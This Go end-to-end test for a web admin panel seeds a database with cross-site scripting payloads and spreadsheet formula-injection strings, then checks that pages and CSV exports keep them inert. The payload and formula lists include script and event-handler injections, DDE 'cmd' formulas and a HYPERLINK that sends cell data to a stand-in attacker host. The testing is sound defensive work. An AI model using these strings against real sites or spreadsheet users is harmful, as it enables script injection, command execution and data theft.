package e2e

import (
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"net/url"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"greenroom"
)

// payloads are texts that would run, or become markup, where a page forgot what they are. Each makes an element x-probe or sets window.hit, in a way of
// its own: between tags, out of an attribute of either quote, out of elements whose content is raw, as an address, as a template, as an event of ours.
var payloads = []string{
	`<x-probe>1</x-probe><script>window.hit=1</script>`,
	`"><img src=x onerror="window.hit=2"><x-probe>2`,
	`'><svg onload='window.hit=3'><x-probe>3`,
	`</textarea></title></style></script></option></select><x-probe>4<script>window.hit=4</script>`,
	`javascript:window.hit=5`,
	`{{.View}}{{template "head.html"}}<x-probe>6`,
	`--><x-probe>7<!--`,
	`&lt;x-probe&gt;8&lt;/x-probe&gt;`,
	"\u2028<x-probe>9</x-probe>\u202e",
	`" autofocus onfocus="window.hit=10" gr-click="delete" data-x="`,
	`</template><x-probe>11`,
	`<math><mtext><table><mglyph><style><!--</style><x-probe title="--&gt;">12`,
}

// formulas would run when a spreadsheet opens the file that they are in.
var formulas = []string{
	`=HYPERLINK("http://evil.invalid/"&A1,"x")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
}

// innocent fails if the page that is open has become what a payload wanted.
func (b *tab) innocent(where string) {
	b.t.Helper()
	found := b.eval(`(() => {
		const bad = []
		if (window.hit !== undefined) bad.push("a script ran: " + window.hit)
		for (const e of document.querySelectorAll("x-probe, script:not([src]), style")) bad.push(e.outerHTML.slice(0, 200))
		for (const e of document.querySelectorAll("*:not(link[rel=icon])")) for (const a of e.attributes) {
			if (a.name.startsWith("on")) bad.push(e.outerHTML.slice(0, 200))
			if (/^\s*(javascript|data|vbscript):/i.test(a.value) && ["href", "src", "action", "formaction", "xlink:href"].includes(a.name)) bad.push(e.outerHTML.slice(0, 200))
		}
		return bad.join("\n")
	})()`)
	if found != "" {
		b.t.Errorf("%s:\n%s", where, found)
	}
}

// shows tells how many of the payloads stand on the page as text, or as a value of a field.
func (b *tab) shows(texts []string) int {
	b.t.Helper()
	n := 0
	all := b.eval(`[document.body.textContent, document.title, ...[...document.querySelectorAll("input, textarea, option, [title], [aria-label]")].flatMap(e => [e.value, e.title, e.ariaLabel])].join("\n")`)
	for _, text := range texts {
		if strings.Contains(all, text) {
			n++
		}
	}
	return n
}

// hostileFile is a database in which every column of every type has every payload, and table, column and comment names are payloads themselves.
func hostileFile(t *testing.T) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "hostile.db")
	plain, err := sql.Open("sqlite", "file:"+file)
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close() //nolint:errcheck // a test's
	types := []string{"INTEGER", "TEXT", "VARCHAR(20)", "CLOB", "JSON", "BLOB", "DATE", "DATETIME", "TIME", "BOOLEAN", "REAL", "DECIMAL(10,2)", "UUID", "URL"}
	ddl, marks := "CREATE TABLE things (id INTEGER PRIMARY KEY, title TEXT UNIQUE NOT NULL", "?, ?"
	for i, kind := range types {
		ddl += fmt.Sprintf(", c%d %s", i, kind)
		marks += ", ?"
	}
	exec := func(query string, args ...any) {
		t.Helper()
		if _, err := plain.ExecContext(t.Context(), query, args...); err != nil {
			t.Fatalf("%v\n%s", err, query)
		}
	}
	quoted := func(name string) string { return `"` + strings.ReplaceAll(name, `"`, `""`) + `"` }
	exec(ddl + ")")
	exec(`CREATE TABLE notes (name TEXT PRIMARY KEY, thing INTEGER NOT NULL REFERENCES things (id), body TEXT)`)
	exec("CREATE TABLE " + quoted(payloads[0]) + " (id INTEGER PRIMARY KEY, " + quoted(payloads[1]) + " TEXT, " + quoted(payloads[9]) + " TEXT, " + quoted(formulas[0]) + " TEXT)")
	for i, text := range append(append([]string{}, payloads...), formulas...) {
		args := []any{i + 1, text}
		for _, kind := range types {
			if kind == "BLOB" {
				args = append(args, []byte(text))
				continue
			}
			args = append(args, text)
		}
		exec("INSERT INTO things VALUES ("+marks+")", args...)
		exec("INSERT INTO notes VALUES (?, ?, ?)", text, i+1, text)
		exec("INSERT INTO "+quoted(payloads[0])+" VALUES (?, ?, ?, ?)", i+1, text, text, text)
	}
	return file
}

// TestHostileTextsStayTexts opens every page of an admin whose data, names and people are payloads, and makes the pages change while they are open. The
// strict CSP would keep most payloads from running: so what is looked for is markup that came of them, and open fails for whatever the CSP refused.
func TestHostileTextsStayTexts(t *testing.T) {
	type thing struct {
		ID    int64  `db:"id"`
		Title string `db:"title"`
	}
	db, err := greenroom.Open(t.Context(), "sqlite:"+hostileFile(t), greenroom.OpenConfig{})
	if err != nil {
		t.Fatal(err)
	}
	labels := map[string]string{"title": payloads[1], "c1": payloads[2], "c2": payloads[3]}
	say := greenroom.On(greenroom.Action{Name: "say", Label: payloads[0]}, func(ctx context.Context, j *greenroom.Job, rows greenroom.Rows[thing], _ struct{}) error {
		for one, err := range rows.All(ctx) {
			if err != nil {
				return err
			}
			j.Log(one.Title)
			j.Fail(one.Title, greenroom.UserError(one.Title))
		}
		return greenroom.UserError(payloads[1])
	})
	name := payloads[1]
	s := (&server{db: db}).run(t, greenroom.Config{
		DB: db, Title: payloads[0], Environment: payloads[2],
		Models: []greenroom.Model{
			{
				Table: "things", Label: payloads[2], Plural: payloads[3], Help: payloads[0], Labels: labels, Actions: []greenroom.Action{say},
				List: greenroom.List{Edit: []string{"c1"}},
			},
			{Table: "notes"},
		},
	})
	if err := s.room.SetPassword(t.Context(), name, password); err != nil {
		t.Fatal(err)
	}
	b := open(t, s.url)
	b.do(chromedp.Navigate(b.url+"/admin/?x="+url.QueryEscape(payloads[1])), chromedp.WaitVisible(chromedp.CSS(`input[name=username]`)))
	b.innocent("the login page")
	b.write(`input[name=username]`, name)
	b.write(`input[name=password]`, "not the password")
	b.do(chromedp.KeyEvent("\r"))
	b.until("it was wrong", `document.querySelector("#login-error")`)
	b.innocent("the login page after a mistake")
	b.write(`input[name=password]`, password)
	b.do(chromedp.KeyEvent("\r"))
	b.live()

	rows := len(payloads) + len(formulas)
	b.goTo("/admin/main/things/?n=100")
	b.until("the list is drawn", fmt.Sprintf(`document.querySelectorAll("tr[data-key]").length === %d`, rows))
	if n := b.shows(payloads); n != len(payloads) {
		t.Errorf("the list shows %d of %d payloads as text", n, len(payloads))
	}
	b.innocent("the list")
	b.picture("list")
	// Patches go another way than pages: a row that changes, a search that is typed, a view that is saved, an edit in place.
	s.exec(t, `UPDATE things SET c1 = title || c1, c3 = c3 || title`)
	b.until("the rows changed where they stand", `[...document.querySelectorAll("[data-col=c1]")].some(e => e.textContent.includes("</script><x-probe>") || e.textContent.includes("6{{.View}}") || e.textContent.length > 60)`)
	b.innocent("the list after its rows changed")
	for _, text := range payloads {
		b.goTo("/admin/main/things/?q=" + url.QueryEscape(text))
		b.innocent("a search for " + text)
	}
	b.goTo("/admin/main/things/")
	for i, text := range payloads {
		b.eval(`void fetch(location.pathname, {method: "post", body: new URLSearchParams({csrf: document.querySelector("[name=csrf]").value, widget: document.querySelector("section[data-widget], [data-widget]")?.dataset.widget ?? "things", event: "view-save", name: ` +
			strconv.Quote(text) + `})}).then(r => window.saved = ` + strconv.Itoa(i+1) + `)`)
		b.until("the view is saved", "window.saved === "+strconv.Itoa(i+1))
	}
	b.goTo("/admin/main/things/")
	if n := b.shows(payloads); n < len(payloads)-1 { // control characters are taken out of names
		t.Errorf("%d of %d saved views are shown by name", n, len(payloads))
	}
	b.innocent("saved views")
	b.eval(`document.querySelector("thead input[type=checkbox]").click()`)
	b.until("the page is selected", `document.querySelector(".gr-bulk")?.innerText.includes("selected")`)
	b.innocent("the bar of actions")
	for i := 1; i <= rows; i++ {
		for _, page := range []string{"change", "history", "delete"} {
			if i > len(payloads) && page != "change" {
				continue
			}
			b.goTo(fmt.Sprintf("/admin/main/things/%d/%s/", i, page))
			b.innocent(fmt.Sprintf("%s of row %d", page, i))
		}
	}
	for _, text := range payloads {
		b.goTo("/admin/main/notes/" + strings.ReplaceAll(url.PathEscape(text), ",", "%2C") + "/change/")
		b.innocent("the form of the note " + text)
	}
	// A change by the form, so that the history and the audit have both values.
	b.goTo("/admin/main/notes/" + strings.ReplaceAll(url.PathEscape(payloads[4]), ",", "%2C") + "/change/")
	b.write(`[name=body]`, payloads[1])
	b.click(`[name=_then][value=continue]`)
	b.until("it is saved", `[...document.querySelectorAll("[role=status]")].some((el) => el.innerText.includes("Saved"))`)
	b.innocent("a form that was saved")

	// The action: its log, its failures, its error, and the word on other pages when it ends.
	b.goTo("/admin/main/things/")
	b.eval(`document.querySelector("thead input[type=checkbox]").click()`)
	b.until("the page is selected", `document.querySelector(".gr-bulk")?.innerText.includes("selected")`)
	b.eval(`[...document.querySelectorAll(".gr-bulk button, .gr-bulk [gr-click]")].find(e => e.textContent.includes("x-probe")).click()`)
	b.until("its page is open", `location.pathname.includes("/progress/")`)
	b.until("it ended", `document.body.innerText.includes("Failed") || document.body.innerText.includes("failed")`)
	b.live()
	b.innocent("the page of a job")
	if n := b.shows(payloads); n < len(payloads)/2 {
		t.Errorf("the page of a job shows %d of %d payloads as text", n, len(payloads))
	}
	b.picture("progress")

	own := payloads[0]
	for _, path := range []string{
		"", "jobs/", "jobs/history/", "audit/", "account/", "users/", "users/?name=" + url.QueryEscape(name), "groups/", "console/",
		"console/jobs/", "console/sessions/", "console/actors/", "console/failures/", "console/nowhere/", "main/" + url.PathEscape(own) + "/",
		"main/" + url.PathEscape(own) + "/1/change/", "main/" + url.PathEscape(own) + "/add/", "main/notes/", "main/notes/add/", "main/things/add/",
	} {
		b.do(chromedp.Navigate(b.url + "/admin/" + path))
		b.until(path+" is drawn", `document.readyState === "complete" && document.querySelector("h1")`)
		b.innocent("/admin/" + path)
	}
	b.goTo("/admin/users/")
	for _, user := range payloads {
		b.write(`[data-add] [name=name]`, strings.Trim(user, "\u2028\u202e"))
		b.eval(`document.querySelector("[data-new-password]")?.setAttribute("data-old", "")`)
		b.click(`[data-add] [type=submit]`)
		b.until("an answer is there", `document.querySelector("[role=alert]") || document.querySelector("[data-new-password]")`)
		b.innocent("adding the user " + user)
	}

	// Files. A spreadsheet takes the first character after the comma for what it is.
	for _, table := range []string{"things", "notes", url.PathEscape(own)} {
		b.eval(`window.file = undefined, void fetch("/admin/main/` + table + `/export/csv").then(async r => { window.file = await r.text(); window.disposition = r.headers.get("content-disposition") })`)
		b.until("the file is there", `window.file !== undefined`)
		records, err := csv.NewReader(strings.NewReader(b.eval(`window.file`))).ReadAll()
		if err != nil || len(records) != rows+1 {
			t.Errorf("%s: %d records, want %d: %v", table, len(records), rows+1, err)
		}
		for _, record := range records {
			for _, field := range record {
				if _, err := strconv.ParseFloat(field, 64); err != nil && field != "" && strings.ContainsAny(field[:1], "=+-@\t\r\n") || strings.ContainsRune("＝＋－＠", []rune(field + " ")[0]) {
					t.Errorf("%s: a spreadsheet runs %q", table, field)
				}
			}
		}
		if d := b.eval(`window.disposition`); strings.ContainsAny(d, "<>\r\n") {
			t.Errorf("%s: disposition %q", table, d)
		}
	}
}
